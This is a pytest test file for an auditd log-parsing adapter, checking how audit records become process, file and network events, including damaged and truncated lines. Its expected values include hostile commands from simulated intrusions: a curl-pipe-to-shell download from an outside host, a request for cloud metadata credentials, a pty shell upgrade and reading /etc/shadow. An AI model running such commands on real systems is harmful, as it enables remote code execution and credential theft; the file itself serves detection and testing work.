"""auditd adapter: grouping by serial, realistic audit.log fixtures, damaged lines."""

from __future__ import annotations

import itertools
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.adapters import Accepted, Outcome, RawRecord, Rejected, auditd, get_adapter
from app.events import FileEvent, NetworkEvent, ProcessExit
from app.framing import lines

FIXTURES = Path(__file__).parent / "fixtures" / "auditd"
STAMP = re.compile(r"msg=audit\(([0-9.]+:[0-9]+)\)")


def parse_file(path: Path) -> list[Outcome]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(auditd.parse(lines(stream)))


def parse_lines(*texts: str) -> list[Outcome]:
    return list(auditd.parse(RawRecord(n, t) for n, t in enumerate(texts, start=1)))


def accepted(outcomes: list[Outcome]) -> dict[int, Accepted]:
    return {o.position: o for o in outcomes if isinstance(o, Accepted)}


def rejected(outcomes: list[Outcome]) -> dict[int, Rejected]:
    return {o.position: o for o in outcomes if isinstance(o, Rejected)}


def fixture_groups() -> list[list[str]]:
    """Returns the lines of every fixture grouped by msg=audit(time:serial)."""
    groups: dict[str, list[str]] = {}
    for path in sorted(FIXTURES.glob("*.log")):
        for number, line in enumerate(path.read_text(encoding="utf-8").split("\n")):
            if line.strip():
                match = STAMP.search(line)
                key = f"{path.name}:{match.group(1) if match else number}"
                groups.setdefault(key, []).append(line)
    return list(groups.values())


def test_is_the_auditd_format() -> None:
    adapter = get_adapter("auditd")
    assert (adapter.name, adapter.framing) == ("auditd", "lines")


def test_ssh_login() -> None:
    outcomes = parse_file(FIXTURES / "ssh_login.log")
    good, bad = accepted(outcomes), rejected(outcomes)
    assert len(good) == 11 and len(bad) == 11
    events = {p: o.item for p, o in good.items()}
    assert all(o.warnings == () for o in good.values())
    assert [(p, e.kind) for p, e in sorted(events.items())] == [
        (1, "network_accept"),
        (5, "process_fork"),
        (8, "process_exec"),
        (23, "process_fork"),
        (27, "process_fork"),
        (30, "process_exec"),
        (37, "process_exec"),
        (48, "process_exec"),
        (55, "process_exec"),
        (62, "file_open"),
        (67, "process_exit"),
    ]
    assert {e.host.id for e in events.values()} == {"bastion-01"}
    assert all(e.process.key is None for e in events.values())

    accept = events[1]
    assert isinstance(accept, NetworkEvent)
    assert accept.id == "auditd:bastion-01:1710234842.117:1120"
    assert accept.network.model_dump(exclude_none=True) == {
        "family": "inet",
        "dst_ip": "203.0.113.77",
        "dst_port": 50122,
    }
    assert accept.process.args == ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"]

    # the listener (711) forks 4101, which re-executes sshd: a new image whose
    # parent is the forked child it replaced, then the listener
    fork = events[5]
    assert (fork.process.pid, fork.process.ppid) == (4101, 711)
    assert fork.process.start_time == "2024-03-12T09:14:02.121000000Z"
    assert fork.process.exe == "/usr/sbin/sshd"
    assert fork.parent is not None
    assert (fork.parent.pid, fork.parent.start_time) == (711, "2024-03-12T09:14:02.117000000Z")
    rexec = events[8]
    assert rexec.process.args == ["/usr/sbin/sshd", "-D", "-R"]
    assert rexec.process.start_time == "2024-03-12T09:14:02.126000000Z"
    assert rexec.parent is not None
    assert rexec.parent.model_dump(exclude_none=True) == {
        "pid": 4101,
        "ppid": 711,
        "start_time": "2024-03-12T09:14:02.121000000Z",
    }
    assert [a.model_dump(exclude_none=True) for a in rexec.ancestors] == [
        {"pid": 711, "ppid": 1, "start_time": "2024-03-12T09:14:02.117000000Z"}
    ]

    bash = events[30]
    assert bash.process.model_dump(exclude_none=True) == {
        "pid": 4130,
        "ppid": 4129,
        "exe": "/usr/bin/bash",
        "comm": "bash",
        "args": ["-bash"],
        "cwd": "/home/alice",
        "uid": 1001,
        "gid": 1001,
        "auid": 1001,
        "session_id": 7,
        "tty": "pts0",
        "start_time": "2024-03-12T09:14:04.066000000Z",
    }
    assert bash.session is not None
    assert bash.session.model_dump(exclude_none=True) == {
        "kind": "ssh",
        "id": "7",
        "user": "alice",
        "ssh_client_ip": "203.0.113.77",
    }
    assert bash.parent is not None and bash.parent.pid == 4130  # the fork it replaced
    assert [a.pid for a in bash.ancestors] == [4129]

    sudo, root_shell, cat = events[37], events[48], events[55]
    assert sudo.process.args == ["sudo", "-i"]
    assert sudo.parent is not None
    assert (sudo.parent.pid, sudo.parent.start_time) == (4130, bash.process.start_time)
    assert (root_shell.process.uid, root_shell.process.auid, root_shell.process.tty) == (
        0,
        1001,
        "pts1",
    )
    assert root_shell.parent is not None
    assert root_shell.parent.model_dump(exclude_none=True) == {"pid": 4188}  # never seen
    assert cat.process.args == ["cat", "/etc/shadow"]
    assert cat.parent is not None and cat.parent.start_time == root_shell.process.start_time

    shadow = events[62]
    assert isinstance(shadow, FileEvent)
    assert shadow.file.model_dump(exclude_none=True) == {
        "path": "/etc/shadow",
        "flags": "O_RDONLY",
    }
    assert shadow.process.start_time == cat.process.start_time  # the same cat
    end = events[67]
    assert isinstance(end, ProcessExit)
    assert (end.exit_code, end.process.start_time) == (0, cat.process.start_time)

    assert {p: r.reason for p, r in bad.items()} == {
        15: "auditd serial 1123: record type USER_AUTH has no Storyline kind yet",
        16: "auditd serial 1124: record type USER_ACCT has no Storyline kind yet",
        17: "auditd serial 1125: record type CRED_ACQ has no Storyline kind yet",
        18: "auditd serial 1126: syscall write (with LOGIN) has no Storyline kind yet",
        22: "auditd serial 1127: record type USER_START has no Storyline kind yet "
        "(its SSH session is attached to the later events of ses 7)",
        26: "auditd serial 1129: record type USER_LOGIN has no Storyline kind yet "
        "(its SSH session is attached to the later events of ses 7)",
        44: "auditd serial 1133: record type USER_AUTH has no Storyline kind yet",
        45: "auditd serial 1134: record type USER_CMD has no Storyline kind yet",
        46: "auditd serial 1135: record type CRED_REFR has no Storyline kind yet",
        47: "auditd serial 1136: record type USER_START has no Storyline kind yet",
        70: "auditd serial 1141: record type USER_END has no Storyline kind yet",
    }
    assert bad[18].raw.split("\n")[0].startswith("node=bastion-01 type=LOGIN ")
    assert len(bad[18].raw.split("\n")) == 4


def test_each_process_image_has_one_parent() -> None:
    parents: dict[str, set[str]] = {}
    for path in sorted(FIXTURES.glob("*.log")):
        for outcome in accepted(parse_file(path)).values():
            event = outcome.item
            chain = [event.process, *filter(None, [event.parent]), *event.ancestors]
            keys = [p.identity(event.host.id) if p.start_time else None for p in chain]
            for child, parent in itertools.pairwise(keys):
                if child is None or parent is None:
                    break
                parents.setdefault(child, set()).add(parent)
    assert len(parents) == 16
    assert {child: ps for child, ps in parents.items() if len(ps) > 1} == {}
    assert parents["bastion-01|4130|2024-03-12T09:14:04.066000000Z"] == {
        "bastion-01|4130|2024-03-12T09:14:04.061000000Z"  # bash, and the fork it replaced
    }


def test_web_server_spawning_a_shell() -> None:
    outcomes = parse_file(FIXTURES / "web_shell.log")
    good, bad = accepted(outcomes), rejected(outcomes)
    assert len(good) == 20 and len(bad) == 1
    events = {p: o.item for p, o in good.items()}
    assert all(o.warnings == () for o in good.values())
    assert {e.host.id for e in events.values()} == {"web-02"}

    shell = events[1]
    assert shell.kind == "process_exec"
    assert shell.process.args == ["sh", "-c", "curl -fsSL http://198.51.100.23/x.sh | sh"]
    assert (shell.process.exe, shell.process.comm) == ("/usr/bin/dash", "sh")
    assert (shell.process.uid, shell.process.auid, shell.process.session_id) == (
        33,
        4294967295,
        4294967295,
    )
    assert shell.process.tty is None
    assert shell.parent is not None
    assert shell.parent.model_dump(exclude_none=True) == {"pid": 8833}

    # curl (serial 5211, first line 8) and sh (5212, first line 9) interleave;
    # sh's EOE comes first, so it is reported first
    assert [o.position for o in outcomes[1:3]] == [9, 8]
    curl, pipe_sh = events[8], events[9]
    assert curl.id == "auditd:web-02:1710237731.489:5211"
    assert curl.process.args == ["curl", "-fsSL", "http://198.51.100.23/x.sh"]
    assert pipe_sh.process.args == ["sh"]
    assert curl.parent is not None and pipe_sh.parent is not None
    assert curl.parent.start_time == pipe_sh.parent.start_time == shell.process.start_time

    assert bad[22].reason == (
        "auditd serial 5213: connect failed (ENOENT, exit=-2); "
        "Storyline has no kind for failed attempts yet"
    )
    connect = events[26]  # non-blocking: EINPROGRESS
    assert isinstance(connect, NetworkEvent)
    assert connect.kind == "network_connect"
    assert (connect.network.dst_ip, connect.network.dst_port) == ("198.51.100.23", 80)
    assert connect.process.start_time == curl.process.start_time
    assert isinstance(events[30], ProcessExit) and events[30].exit_code == 0

    imds = events[40]
    assert isinstance(imds, NetworkEvent)
    assert (imds.network.dst_ip, imds.network.dst_port) == ("169.254.169.254", 80)
    assert imds.process.args == [
        "curl",
        "-s",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ]

    download = events[55]
    assert isinstance(download, FileEvent)
    assert download.kind == "file_create"
    assert download.file.model_dump(exclude_none=True) == {
        "path": "/tmp/kdevtmpfsi",
        "mode": 0o644,
        "flags": "O_WRONLY|O_CREAT|O_TRUNC",
    }
    chmod = events[68]
    assert isinstance(chmod, FileEvent)
    assert (chmod.kind, chmod.file.path, chmod.file.mode) == (
        "file_chmod",
        "/tmp/kdevtmpfsi",
        0o755,
    )
    moved = events[80]
    assert isinstance(moved, FileEvent)
    assert (moved.kind, moved.file.path, moved.file.target_path) == (
        "file_rename",
        "/tmp/kdevtmpfsi",
        "/tmp/.X11-unix/.kdev",
    )
    assert events[88].process.exe == "/tmp/.X11-unix/.kdev"
    bind, listen, callback = events[95], events[99], events[102]
    assert isinstance(bind, NetworkEvent) and isinstance(listen, NetworkEvent)
    assert bind.network.model_dump(exclude_none=True) == {
        "family": "inet",
        "src_ip": "0.0.0.0",
        "src_port": 4444,
    }
    assert listen.kind == "network_listen"
    assert listen.network.model_dump(exclude_none=True) == {}
    assert isinstance(callback, NetworkEvent)
    assert callback.network.model_dump(exclude_none=True) == {
        "family": "inet6",
        "dst_ip": "2001:db8:40::c8",
        "dst_port": 3333,
    }
    unlinked = events[113]  # a relative name, resolved against the CWD record
    assert isinstance(unlinked, FileEvent)
    assert (unlinked.kind, unlinked.file.path) == (
        "file_unlink",
        "/var/www/html/uploads/.cache.php",
    )


def test_enriched_format_on_aarch64() -> None:
    outcomes = parse_file(FIXTURES / "enriched.log")
    good, bad = accepted(outcomes), rejected(outcomes)
    assert sorted(good) == [2, 9, 13] and sorted(bad) == [1]
    server = good[2].item
    assert server.kind == "process_exec"
    assert server.process.args == ["python3", "-m", "http.server", "8000"]
    assert (server.process.user, server.process.group) == ("carol", "carol")
    assert server.session is not None
    assert (server.session.user, server.session.ssh_client_ip) == ("carol", "192.0.2.44")
    bind, accept = good[9].item, good[13].item
    assert isinstance(bind, NetworkEvent) and isinstance(accept, NetworkEvent)
    assert (bind.kind, bind.network.src_port) == ("network_bind", 8000)
    assert (accept.kind, accept.network.dst_ip, accept.network.dst_port) == (
        "network_accept",
        "192.0.2.44",
        61002,
    )
    assert bind.process.start_time == accept.process.start_time == server.process.start_time


def test_damaged_input() -> None:
    outcomes = parse_file(FIXTURES / "damaged.log")
    good, bad = accepted(outcomes), rejected(outcomes)
    assert sorted(good) == [1, 8, 29, 36]

    # the SYSCALL line stops inside comm: pid and the rest that arrived are kept
    cut = good[1]
    assert cut.item.process.model_dump(exclude_none=True) == {
        "pid": 30170,
        "ppid": 30111,
        "args": ["python3", "-c", "import pty;pty.spawn('/bin/bash')"],
        "cwd": "/tmp",
        "uid": 114,
        "gid": 114,
        "auid": 4294967295,
        "session_id": 4294967295,
        "start_time": "2024-03-12T11:30:00.250000000Z",
    }
    assert cut.warnings == ("SYSCALL line truncated after ses; lost: comm, exe, key",)

    # the EXECVE line stops after a whole hex argument while one more was due
    execve = good[8]
    assert execve.item.process.args == ["bash", "-c"]
    assert execve.warnings == (
        "EXECVE line truncated; lost: argument 2 and the 1 after it (argc=4)",
    )

    no_node = good[29]
    assert no_node.item.host.id == "unknown"
    assert no_node.item.id == "auditd:unknown:1710243004.000:916"
    assert no_node.warnings == (
        "no node= prefix: the host is unknown (id 'unknown'); set name_format in auditd.conf",
    )

    open_group = good[36]  # SYSCALL and SOCKADDR, no PROCTITLE nor EOE
    assert isinstance(open_group.item, NetworkEvent)
    assert open_group.item.network.dst_port == 4444
    assert open_group.warnings == (
        "auditd serial 917: no EOE record in this input; records that may be missing: PROCTITLE",
    )

    assert {p: r.reason for p, r in bad.items()} == {
        15: "auditd serial 914: execve failed (ENOENT, exit=-2); "
        "Storyline has no kind for failed attempts yet",
        21: "auditd serial 915: clone with CLONE_THREAD made a thread; "
        "Storyline has no kind for threads",
        24: "an ausearch separator line, not a record; ausearch --raw omits them",
        25: "an ausearch separator line, not a record; ausearch --raw omits them",
        26: "an interpreted record (ausearch -i); submit raw records "
        "(/var/log/audit/audit.log or ausearch --raw)",
        27: "not a raw audit record: expected 'type=TYPE msg=audit(time:serial): ...'",
        28: "not a raw audit record: its msg=audit(time:serial) header is cut or malformed",
        38: "auditd serial 918: no SYSCALL record in this input; "
        "submit the whole event (records seen: CWD, PATH)",
    }
    assert bad[38].raw.count("\n") == 1  # both lines of the group are kept
    assert bad[15].raw.count("\n") == 5


EXEC = (
    "node=h1 type=SYSCALL msg=audit(1700000000.100:{s}): arch=c000003e syscall=59 success=yes "
    "exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=10 pid={pid} auid=1000 uid=1000 gid=1000 "
    'euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="x" '
    'exe="/usr/bin/x" key=(null)'
)


def exec_lines(serial: int, pid: int, *records: str) -> list[str]:
    stamp = f"1700000000.100:{serial}"
    body = [
        f"node=h1 type={r.split(' ', 1)[0]} msg=audit({stamp}): {r.split(' ', 1)[1]}"
        for r in records
    ]
    return [EXEC.format(s=serial, pid=pid), *body, f"node=h1 type=EOE msg=audit({stamp}):"]


def test_long_argument_split_into_chunks() -> None:
    outcomes = parse_lines(
        *exec_lines(
            7,
            77,
            'EXECVE argc=3 a0="python3" a1="-c" a2_len=40 a2[0]=7072696E74282768',
            "EXECVE a2[1]=656C6C6F20776F726C642729",
        )
    )
    (outcome,) = outcomes
    assert isinstance(outcome, Accepted)
    assert outcome.item.process.args == ["python3", "-c", "print('hello world')"]


def test_missing_chunk_loses_the_argument() -> None:
    (outcome,) = parse_lines(
        *exec_lines(7, 77, 'EXECVE argc=2 a0="python3" a1_len=40 a1[0]=7072696E7428')
    )
    assert isinstance(outcome, Accepted)
    assert outcome.item.process.args == ["python3"]
    assert outcome.warnings == ("EXECVE line truncated; lost: argument 1 (argc=2)",)


def test_proctitle_when_execve_is_missing() -> None:
    (outcome,) = parse_lines(*exec_lines(8, 80, "PROCTITLE proctitle=6C73002D6C61"))
    assert isinstance(outcome, Accepted)
    assert outcome.item.process.args == ["ls", "-la"]
    assert outcome.warnings == ("no EXECVE record: args are from PROCTITLE",)


def test_unix_socket_connect_keeps_the_path_in_a_warning() -> None:
    stamp = "1700000001.000:9"
    saddr = "0100" + b"/run/docker.sock".hex().upper() + "00" * 20
    (outcome,) = parse_lines(
        EXEC.format(s=9, pid=90).replace("syscall=59", "syscall=42"),
        f"node=h1 type=SOCKADDR msg=audit({stamp}): saddr={saddr}".replace(
            stamp, "1700000000.100:9"
        ),
        "node=h1 type=EOE msg=audit(1700000000.100:9):",
    )
    assert isinstance(outcome, Accepted)
    assert isinstance(outcome.item, NetworkEvent)
    assert outcome.item.network.family == "unix"
    assert outcome.warnings == ("unix socket path '/run/docker.sock' has no NetworkTarget field",)


def test_relative_path_under_a_directory_descriptor_is_kept_as_written() -> None:
    syscall = (
        EXEC.format(s=11, pid=91).replace("syscall=59", "syscall=263").replace("a0=1 ", "a0=5 ")
    )
    (outcome,) = parse_lines(
        syscall,
        'node=h1 type=CWD msg=audit(1700000000.100:11): cwd="/home/u"',
        'node=h1 type=PATH msg=audit(1700000000.100:11): item=0 name="x.txt" nametype=DELETE',
        "node=h1 type=EOE msg=audit(1700000000.100:11):",
    )
    assert isinstance(outcome, Accepted)
    assert isinstance(outcome.item, FileEvent)
    assert outcome.item.file.path == "x.txt"
    assert outcome.warnings == (
        "path 'x.txt' is relative to a directory descriptor; kept as written",
    )


def test_syscalls_without_a_kind_and_unknown_arches() -> None:
    kill = EXEC.format(s=12, pid=92).replace("syscall=59", "syscall=62")
    arm32 = EXEC.format(s=13, pid=93).replace("arch=c000003e", "arch=40000028")
    clone3 = EXEC.format(s=14, pid=94).replace(
        "syscall=59 success=yes exit=0", "syscall=435 success=yes exit=95"
    )
    outcomes = parse_lines(
        kill,
        "node=h1 type=EOE msg=audit(1700000000.100:12):",
        arm32,
        "node=h1 type=EOE msg=audit(1700000000.100:13):",
        clone3,
        "node=h1 type=EOE msg=audit(1700000000.100:14):",
    )
    assert [o.reason for o in outcomes if isinstance(o, Rejected)] == [
        "auditd serial 12: syscall kill has no Storyline kind yet",
        "auditd serial 13: arch 40000028 is not supported (x86_64 and aarch64 are); "
        "syscall 59 cannot be named",
        "auditd serial 14: clone3 passes its flags in memory the record does not show, so a "
        "thread cannot be told from a process",
    ]


def test_a_pid_reused_after_exit_is_a_new_process() -> None:
    exit_group = (
        EXEC.format(s=21, pid=500)
        .replace("syscall=59 success=yes exit=0", "syscall=231")
        .replace("1700000000.100", "1700000000.200")
    )
    outcomes = parse_lines(
        *exec_lines(20, 500, 'EXECVE argc=1 a0="a"'),
        exit_group,
        "node=h1 type=EOE msg=audit(1700000000.200:21):",
        *[
            line.replace("1700000000.100", "1700000000.300")
            for line in exec_lines(22, 500, 'EXECVE argc=1 a0="b"')
        ],
    )
    starts = [o.item.process.start_time for o in outcomes if isinstance(o, Accepted)]
    assert starts == [
        "2023-11-14T22:13:20.100000000Z",
        "2023-11-14T22:13:20.100000000Z",
        "2023-11-14T22:13:20.300000000Z",
    ]
    (last,) = [o for o in outcomes if isinstance(o, Accepted) and o.item.process.args == ["b"]]
    assert last.item.parent is not None
    assert last.item.parent.model_dump(exclude_none=True) == {"pid": 10}


def test_stale_groups_are_flushed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(auditd, "STALE_AFTER_LINES", 3)
    records = [*exec_lines(30, 300, 'EXECVE argc=1 a0="a"')[:-1]]  # no EOE
    user_cmd = (
        "node=h1 type=USER_CMD msg=audit(1700000000.100:{}): pid=1 uid=0 auid=0 ses=1 msg='res=1'"
    )
    records += [user_cmd.format(n) for n in range(31, 36)]  # lines 3 to 7
    outcomes = parse_lines(*records)
    # flushed once line 6 is more than 3 lines past the group's last line (2)
    assert [o.position for o in outcomes] == [3, 4, 5, 6, 1, 7]
    flushed = outcomes[4]
    assert isinstance(flushed, Accepted)
    assert flushed.warnings == (
        "auditd serial 30: no EOE record in this input; records that may be missing: CWD, "
        "PATH, PROCTITLE",
    )


def test_sockaddr_decoding() -> None:
    warnings: list[str] = []
    assert auditd._sockaddr("02001F90C0A80001" + "00" * 8, warnings) == (
        "inet",
        "192.168.0.1",
        8080,
    )
    assert auditd._sockaddr(
        "0A000050" + "00" * 4 + "20010DB8" + "00" * 11 + "01" + "00" * 4, warnings
    ) == (
        "inet6",
        "2001:db8::1",
        80,
    )
    assert warnings == []
    assert auditd._sockaddr("02001F90C0A8", warnings) == ("inet", None, None)
    assert auditd._sockaddr("02001F9", warnings) is None
    assert auditd._sockaddr("0100002F6162737472616374", warnings) == ("unix", None, None)
    assert warnings == [
        "SOCKADDR line truncated; lost: the inet address",
        "SOCKADDR line truncated; lost: the address",
        "unix socket path '@/abstract' has no NetworkTarget field",
    ]


def test_decoding_of_audit_strings() -> None:
    assert auditd.decode('"/usr/bin/bash"') == "/usr/bin/bash"
    assert auditd.decode("2F746D702F6120622E7368") == "/tmp/a b.sh"
    assert auditd.decode("(null)") is None
    assert auditd.decode("2F746D7") is None  # odd hex: the value was cut
    assert auditd.decode("FF61") == "\ufffda"


def test_every_truncation_of_every_line_is_handled() -> None:
    for group in fixture_groups():
        for index, line in enumerate(group):
            for end in range(0, len(line) + 1, 3):
                texts = [*group[:index], line[:end], *group[index + 1 :]]
                for outcome in parse_lines(*texts):
                    assert isinstance(outcome, Accepted | Rejected)


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(fixture_groups()),
    st.integers(0, 5000),
    st.text(max_size=30),
)
def test_corrupted_groups_never_raise(group: list[str], at: int, noise: str) -> None:
    text = "\n".join(group)
    at = min(at, len(text))
    corrupted = (text[:at] + noise + text[at:]).split("\n")
    for outcome in parse_lines(*corrupted):
        assert isinstance(outcome, Accepted | Rejected)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.text(
            alphabet=st.sampled_from(list("type=SYSCALLmsgaudit():.0123 \"'\x1dEOEPATHnode")),
            max_size=120,
        ),
        max_size=6,
    )
)
def test_record_soup_never_raises(texts: list[str]) -> None:
    for outcome in parse_lines(*[t or " " for t in texts]):
        assert isinstance(outcome, Accepted | Rejected)
